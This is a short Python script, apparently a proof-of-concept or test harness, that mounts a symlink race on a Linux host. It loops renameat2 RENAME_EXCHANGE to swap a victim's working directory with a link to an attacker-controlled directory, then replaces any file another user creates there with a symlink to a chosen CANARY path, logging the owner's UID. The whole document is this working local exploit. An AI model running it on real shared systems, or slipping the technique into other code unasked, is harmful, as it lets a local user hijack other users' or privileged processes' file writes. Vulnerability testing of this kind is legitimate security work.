#!/usr/bin/python3
"""A user of the host against whoever works in his directory: swaps a directory and a link, again and again, and where
somebody makes a file behind the link, puts a link to CANARY in its place.

usage: swap.py DIRECTORY NAME EVIL CANARY LOG
DIRECTORY may be /proc/PID/…: it is opened once, and the handle is all that is used then.
"""

import ctypes
import os
import sys

directory, name, evil, canary, log = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
here = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
try:
    os.symlink(evil, "swapped", dir_fd=here)
except FileExistsError:
    pass
with open(log, "a", buffering=1) as said:
    said.write("ready\n")
    while True:
        done = libc.renameat2(here, name.encode(), here, b"swapped", RENAME_EXCHANGE)
        if done != 0 and ctypes.get_errno() != 2:
            said.write(f"swap: {os.strerror(ctypes.get_errno())}\n")
        for _ in range(20):
            for entry in os.listdir(evil):
                if entry == "jts.ini":
                    continue
                path = f"{evil}/{entry}"
                try:
                    owner = os.lstat(path).st_uid
                    if not os.path.islink(path):
                        said.write(f"came: {owner} {entry}\n")
                        os.unlink(path)
                        os.symlink(canary, path)
                except OSError:
                    pass
